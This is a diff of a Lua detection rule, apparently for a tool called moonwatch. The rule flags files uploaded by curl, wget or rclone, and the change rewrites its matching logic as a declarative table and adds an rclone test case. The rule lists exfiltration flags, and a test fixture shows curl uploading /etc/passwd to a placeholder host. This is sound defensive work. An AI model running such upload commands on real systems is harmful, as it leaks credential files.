@@ -1,5 +1,3 @@
-local match = require "moonwatch.match"
-
 return {
   id = "exfil_upload",
   summary = "File sent out by a command-line tool",
@@ -9,17 +7,12 @@ return {
   attack = { "T1048", "T1567" },
   message = "{process.parent.name} sends a file: {process.cmdline}",
   false_positives = { "Backup jobs, which are best given a rule of their own" },
-  match = function(event)
-    local process = event.process
-    local name = process.name
-    if name == "curl" then
-      return match.has_arg(process, "-T", "--upload-file")
-        or match.contains_any(process.cmdline, { " -d @", " --data @", " --data-binary @", "=@" })
-    elseif name == "wget" then
-      return match.contains_any(process.cmdline, { " --post-file", " --body-file" })
-    end
-    return name == "rclone" and match.has_arg(process, "copy", "copyto", "sync", "move", "rcat")
-  end,
+  where = {
+    { names = "curl", arguments = { "-T", "--upload-file" } },
+    { names = "curl", cmdline = { " -d @", " --data @", " --data-binary @", "=@" } },
+    { names = "wget", cmdline = { " --post-file", " --body-file" } },
+    { names = "rclone", arguments = { "copy", "copyto", "sync", "move", "rcat" } },
+  },
   examples = {
     { expect = true, event = { process =
       { name = "curl", argv = { "curl", "-T", "/etc/passwd", "http://x/" } } } },
@@ -30,5 +23,6 @@ return {
     { expect = false, event = { process = { name = "curl", argv = { "curl", "-d", "a=1", "http://x/" } } } },
     { expect = false, event = { process = { name = "wget", argv = { "wget", "http://x/" } } } },
     { expect = false, event = { process = { name = "rclone", argv = { "rclone", "version" } } } },
+    { expect = true, event = { process = { name = "rclone", argv = { "rclone", "copy", "/data", "r:" } } } },
   },
 }
